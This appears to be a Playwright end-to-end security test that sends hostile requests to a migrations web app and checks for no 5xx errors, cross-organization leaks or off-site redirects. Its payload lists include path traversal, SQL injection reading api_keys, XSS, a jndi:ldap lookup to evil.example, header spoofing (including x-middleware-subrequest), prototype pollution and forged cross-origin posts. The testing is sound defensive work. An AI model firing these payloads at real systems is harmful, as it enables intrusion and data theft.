import { randomUUID } from "node:crypto";
import { type APIRequestContext, expect, test } from "@playwright/test";
import { signedInRequestContext } from "./support/auth";
import { createApiKeyWithCli } from "./support/cli";
import { upstreamRequestMark, upstreamRequestsAfter } from "./support/fake-upstream";
import { type Expectations, type HostileRequest, HostileRun } from "./support/hostile";
import { type ApiMigration, demoMigrations } from "./support/migrations";
import { ACCOUNTS, E2E, runtimeApiKey, UPSTREAM_APP } from "./support/servers";

/**
 * Malformed and hostile requests against every page, BFF route, embedded API route and sign-in
 * endpoint, signed out and signed in: none may answer 5xx, leak another organization's data, or
 * redirect off-site; the APIs answer errors in their own JSON shape.
 */
test.describe.configure({ mode: "serial" });

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
const run = new HostileRun();

/** Path segments where a migration id goes, as sent (percent-encoded). None is a migration id. */
const HOSTILE_IDS = [
  // Encoded traversal.
  "%2e%2e%2f",
  "%2e%2e%2f%2e%2e%2fapi%2fhealth",
  "..%2f",
  "..%2f..%2fapi%2fv1%2fopenapi.json",
  "%252e%252e%252f",
  "..%5c..%5c",
  "%2e%2e%5c",
  // Not UTF-8: overlong dots, lone bytes, a bare or bad escape.
  "%c0%ae%c0%ae",
  "%ff%fe",
  "%e2%82",
  "%",
  "%zz",
  // Control characters and header injection.
  "%00",
  "abc%0d%0aSet-Cookie:%20injected=1",
  // Overlong.
  "x".repeat(4096),
  `${"0".repeat(8)}-0000-4000-8000-${"0".repeat(12)}${"0".repeat(200)}`,
  // Unicode: accents, right-to-left override, emoji, full-width digits, a Cyrillic letter in a UUID.
  "%C3%A9t%C3%A9",
  "%E2%80%AEdi",
  "%F0%9F%92%A5",
  "%EF%BC%91%EF%BC%92%EF%BC%93",
  "%D0%B0aaaaaaa-0000-4000-8000-000000000000",
  // SQL and other injection.
  "'%20OR%201=1%20--",
  "1;DROP%20TABLE%20migrations",
  "1%20UNION%20SELECT%20key_hash%20FROM%20api_keys--",
  "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D",
  // Numbers and words that are not ids.
  "-1",
  "0",
  "99999999999999999999",
  "1e309",
  "NaN",
  "null",
  "__proto__",
  "constructor",
] as const;

/** Query strings, as sent, for the list routes. */
const HOSTILE_QUERIES = [
  "page=1&page=2",
  "page_size=10&page_size=25",
  "status[]=FAILED",
  "status=FAILED&status='%20OR%201=1%20--",
  "status=%ff",
  "status=FAILED;DROP%20TABLE%20migrations",
  "page=1e309",
  "page=99999999999999999999",
  "page=-1",
  "page=0",
  "page=1.5",
  "page=0x10",
  "page=%20",
  "page=",
  "page",
  "page_size=0",
  "page_size=-10",
  "page_size=1000000",
  "sort=;DROP%20TABLE%20migrations",
  "sort=created%20UNION%20SELECT%201",
  "sort[]=created",
  "company_id='%20OR%201=1%20--",
  "company_id[]=x&company_id[]=y",
  "created_by_user_id=1%20UNION%20SELECT%20key_hash%20FROM%20api_keys",
  `company_id=${"x".repeat(5000)}`,
  "__proto__[page]=2",
  "constructor[prototype][polluted]=1",
  "status=__proto__",
  "status=constructor",
  "callbackUrl=https%3A%2F%2Fevil.example",
] as const;

const BAD_METHODS = ["PUT", "DELETE", "PATCH", "TRACE", "OPTIONS"] as const;

/** Headers a client may spoof: the proxy's subrequest marker, and every forwarded header. */
const SPOOFED_HEADERS: ReadonlyArray<Record<string, string>> = [
  { "x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware" },
  { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" },
  { "x-middleware-subrequest": "src/proxy:src/proxy:src/proxy:src/proxy:src/proxy" },
  { "x-forwarded-host": "evil.example" },
  { "x-forwarded-host": "bad host" },
  { "x-forwarded-host": "evil.example:99999" },
  { "x-forwarded-host": "evil.example, localhost" },
  { "x-forwarded-for": "127.0.0.1" },
  { "x-forwarded-for": "not-an-address, ' OR 1=1 --" },
  { "x-forwarded-for": "10.0.0.1, ".repeat(300) },
  { "x-forwarded-proto": "javascript" },
  { "x-forwarded-proto": "https,javascript" },
  { "x-forwarded-proto": "http, https" },
  { "x-forwarded-proto": "ftp" },
  { "x-forwarded-host": "evil.example", "x-forwarded-proto": "https" },
];

/** Hostile requests to the signed-in pages and the BFF (the embedded API has its own table). */
function pageAndBffRequests(validId: string): HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const id of HOSTILE_IDS) {
    requests.push({ path: `/migrations/${id}` }, { path: `/api/migrations/${id}` });
  }
  for (const query of HOSTILE_QUERIES) {
    requests.push({ path: `/migrations?${query}` }, { path: `/api/migrations?${query}` });
  }
  for (const query of ["callbackUrl=https%3A%2F%2Fevil.example", "callbackUrl=%2F%2Fevil.example", "callbackUrl=%ff"]) {
    requests.push({ path: `/signin?${query}` }, { path: `/?${query}` });
  }
  const everyPath = [
    "/migrations",
    `/migrations/${validId}`,
    "/signin",
    "/",
    "/api/migrations",
    `/api/migrations/${validId}`,
    "/api/auth/session",
    "/api/auth/signout",
  ];
  for (const method of BAD_METHODS) {
    for (const path of everyPath) {
      const api = path.startsWith("/api/migrations") && method !== "OPTIONS";
      requests.push({ method, path, status: method === "TRACE" || api ? 405 : undefined });
    }
  }
  const spoofTargets = [
    "/migrations",
    `/migrations/${validId}`,
    "/signin",
    "/",
    "/api/migrations",
    "/api/auth/session",
  ];
  for (const headers of SPOOFED_HEADERS) {
    for (const path of spoofTargets) requests.push({ path, headers });
  }
  return requests;
}

/** Hostile requests to the embedded API, sent with `key` (or none). */
function embeddedApiRequests(validId: string, key: string | undefined): HostileRequest[] {
  const auth = key ? { Authorization: `Bearer ${key}` } : undefined;
  const requests: HostileRequest[] = [];
  for (const id of HOSTILE_IDS) requests.push({ path: `/api/v1/migrations/${id}`, headers: auth });
  for (const query of HOSTILE_QUERIES) requests.push({ path: `/api/v1/migrations?${query}`, headers: auth });
  for (const method of BAD_METHODS) {
    for (const path of ["/api/v1/migrations", `/api/v1/migrations/${validId}`, "/api/v1/openapi.json"]) {
      requests.push({ method, path, headers: auth, status: method === "OPTIONS" ? undefined : 405 });
    }
  }
  for (const headers of SPOOFED_HEADERS) {
    requests.push({ path: "/api/v1/migrations?page_size=3", headers: { ...auth, ...headers } });
    requests.push({ path: "/api/v1/openapi.json", headers });
  }
  for (const bad of ["Bearer", "Bearer ", "Bearer anon_' OR 1=1 --", `Bearer ${"a".repeat(4000)}`, "Basic YTpi"]) {
    requests.push({ path: "/api/v1/migrations", headers: { Authorization: bad }, status: 401 });
  }
  return requests;
}

const SIGN_OUT_ACTION = /name="\$ACTION_ID_([0-9a-f]+)"/;
const BAD_ORIGINS = ["https://evil.example", "null", "not a url", `${E2E.baseURL}.evil.example`] as const;

/** State-changing requests from another origin: sign-in's endpoints and the pages' server actions. */
function crossOriginWrites(actionId: string): HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const origin of BAD_ORIGINS) {
    const headers = { Origin: origin };
    requests.push(
      { method: "POST", path: "/api/auth/signout", headers, form: { callbackUrl: "/signin" } },
      { method: "POST", path: "/api/auth/signout", headers, form: { csrfToken: "forged", callbackUrl: "/" } },
      {
        method: "POST",
        path: "/api/auth/callback/credentials",
        headers,
        form: {
          csrfToken: "forged",
          email: ACCOUNTS.demo.email,
          password: "wrong",
          callbackUrl: "https://evil.example",
        },
      },
    );
    for (const page of ["/migrations", "/signin", "/"]) {
      requests.push(
        { method: "POST", path: page, headers, multipart: { [`$ACTION_ID_${actionId}`]: "" }, status: 403 },
        {
          method: "POST",
          path: page,
          headers: { ...headers, "Next-Action": actionId, "Content-Type": "text/plain;charset=UTF-8" },
          body: "[]",
          status: 403,
        },
      );
    }
  }
  // Same origin but not a form: Next would read it as a server action's form and fail with a 500.
  for (const page of ["/migrations", "/signin"]) {
    requests.push({
      method: "POST",
      path: page,
      headers: { "Content-Type": "multipart/form-data; boundary=nothing-like-it" },
      body: "not a form",
      status: 400,
    });
  }
  return requests;
}

const APP_ORIGINS = [E2E.baseURL, `http://127.0.0.1:${E2E.port}`];

let validId = "";
let otherOrg: ApiMigration[] = [];
let otherOrgIds: string[] = [];

test.beforeAll(async ({ request }) => {
  validId = (await demoMigrations(request))[0]?.id ?? "";
  expect(validId).toMatch(UUID);
  // Another organization of the demo data, with its own key made the way an administrator would.
  const otherKey = createApiKeyWithCli(E2E.dataDir, "acme");
  const response = await request.get("/api/v1/migrations?page_size=100", {
    headers: { Authorization: `Bearer ${otherKey}` },
  });
  expect(response.status()).toBe(200);
  otherOrg = ((await response.json()) as { data: ApiMigration[] }).data;
  otherOrgIds = otherOrg.map((migration) => migration.id);
  expect(otherOrgIds.length).toBeGreaterThan(0);
  // The control: the check below finds these ids where they are (its own key lists them).
  expect(await response.text()).toContain(otherOrgIds[0]);
});

function expectations(signedIn: boolean): Expectations {
  return { appOrigins: APP_ORIGINS, forbidden: otherOrgIds, signedIn };
}

async function sendAll(context: APIRequestContext, requests: HostileRequest[], signedIn: boolean) {
  const mark = run.problems.length;
  await run.send(context, requests, expectations(signedIn));
  expect(run.since(mark)).toEqual([]);
}

test("signed out: pages and the BFF answer hostile ids, queries, methods and headers without a 5xx", async ({
  request,
}) => {
  test.setTimeout(180_000);
  await sendAll(request, pageAndBffRequests(validId), false);
});

test("signed in: pages and the BFF answer hostile ids, queries, methods and headers without a 5xx", async ({
  playwright,
}) => {
  test.setTimeout(240_000);
  const context = await signedInRequestContext(playwright.request, E2E.baseURL, ACCOUNTS.demo);
  await sendAll(context, pageAndBffRequests(validId), true);
  // None of it ended the session.
  expect((await context.get("/api/migrations")).status()).toBe(200);
  await context.dispose();
});

test("the embedded API answers hostile requests with and without a key in its own error shape", async ({ request }) => {
  test.setTimeout(120_000);
  await sendAll(request, embeddedApiRequests(validId, runtimeApiKey()), true);
  await sendAll(request, embeddedApiRequests(validId, undefined), false);
});

test("another organization's ids are a 404 like an unknown id: embedded API, BFF and pages", async ({
  request,
  playwright,
}) => {
  const auth = { Authorization: `Bearer ${runtimeApiKey()}` };
  const unknown = await request.get(`/api/v1/migrations/${randomUUID()}`, { headers: auth });
  expect(unknown.status()).toBe(404);
  const unknownBody = await unknown.text();

  const context = await signedInRequestContext(playwright.request, E2E.baseURL, ACCOUNTS.demo);
  const theirs = otherOrg.slice(0, 5);
  const requests: HostileRequest[] = [];
  for (const { id, company_id: companyId, created_by_user_id: userId } of theirs) {
    const answer = await request.get(`/api/v1/migrations/${id}`, { headers: auth });
    expect(answer.status(), id).toBe(404);
    expect(await answer.text(), id).toBe(unknownBody);
    run.sent++;
    requests.push(
      { path: `/api/migrations/${id}`, status: 404 },
      { path: `/migrations/${id}`, status: 404 },
      { path: `/api/migrations?created_by_user_id=${encodeURIComponent(userId)}` },
      { path: `/api/v1/migrations?created_by_user_id=${encodeURIComponent(userId)}`, headers: auth },
    );
    if (companyId) {
      requests.push(
        { path: `/api/migrations?company_id=${encodeURIComponent(companyId)}` },
        { path: `/migrations?company_id=${encodeURIComponent(companyId)}` },
        { path: `/api/v1/migrations?company_id=${encodeURIComponent(companyId)}`, headers: auth },
      );
    }
  }
  await sendAll(context, requests, true);
  await context.dispose();
});

test("an unknown id read by a page and the BFF at once is a 404 to both", async ({ playwright }) => {
  // They share one upstream read; the error it ends in comes from the other's copy of the code.
  const context = await signedInRequestContext(playwright.request, E2E.baseURL, ACCOUNTS.demo);
  const mark = run.problems.length;
  for (let attempt = 0; attempt < 20; attempt++) {
    const id = randomUUID();
    const pair: HostileRequest[] = [
      { path: `/migrations/${id}`, status: 404 },
      { path: `/api/migrations/${id}`, status: 404 },
    ];
    await run.send(context, attempt % 2 ? pair : pair.reverse(), expectations(true), 2);
  }
  expect(run.since(mark)).toEqual([]);
  await context.dispose();
});

test("state-changing requests from another origin are refused and the session survives them", async ({
  request,
  playwright,
}) => {
  const context = await signedInRequestContext(playwright.request, E2E.baseURL, ACCOUNTS.demo);
  const actionId = SIGN_OUT_ACTION.exec(await (await context.get("/migrations")).text())?.[1];
  expect(actionId, "the sign-out form's server action id").toBeDefined();
  const requests = crossOriginWrites(actionId ?? "");
  await sendAll(context, requests, true);
  expect((await context.get("/api/migrations")).status()).toBe(200);
  await sendAll(request, requests, false);
  await context.dispose();
});

/** The id segment of an upstream by-id read (`/api/v1/migrations/<id>`), if the path is one. */
function byIdSegment(path: string): string | undefined {
  return /^\/api\/v1\/migrations\/([^/?]+)/.exec(path)?.[1];
}

test("invalid ids through the BFF never reach the upstream; a valid unknown one does", async ({ playwright }) => {
  test.setTimeout(120_000);
  const context = await signedInRequestContext(playwright.request, UPSTREAM_APP.baseURL, ACCOUNTS.upstreamOps);
  const mark = await upstreamRequestMark();
  const requests: HostileRequest[] = [];
  for (const id of HOSTILE_IDS) requests.push({ path: `/api/migrations/${id}` }, { path: `/migrations/${id}` });
  const problems = run.problems.length;
  await run.send(context, requests, {
    appOrigins: [UPSTREAM_APP.baseURL, `http://127.0.0.1:${UPSTREAM_APP.port}`],
    forbidden: [],
    signedIn: true,
  });
  expect(run.since(problems)).toEqual([]);
  // The sync keeps reading lists and running migrations by id meanwhile: only non-UUID by-id reads count.
  const { requests: received } = await upstreamRequestsAfter(mark);
  const invalidReads = received.filter((entry) => {
    const id = byIdSegment(entry.path);
    return id !== undefined && !UUID.test(id);
  });
  expect(invalidReads).toEqual([]);

  // The control: the log does see the BFF's reads (a valid id the mirror lacks is read through once).
  const unknownId = randomUUID();
  const before = await upstreamRequestMark();
  expect((await context.get(`/api/migrations/${unknownId}`)).status()).toBe(404);
  run.sent++;
  const after = await upstreamRequestsAfter(before);
  expect(after.requests.filter((entry) => byIdSegment(entry.path) === unknownId).length).toBe(1);
  await context.dispose();
});

test("every hostile request was answered without a 5xx", () => {
  console.log(`hostile requests: ${run.sent}, 5xx: ${run.serverErrors}`);
  expect(run.serverErrors).toBe(0);
  expect(run.sent).toBeGreaterThanOrEqual(300);
});
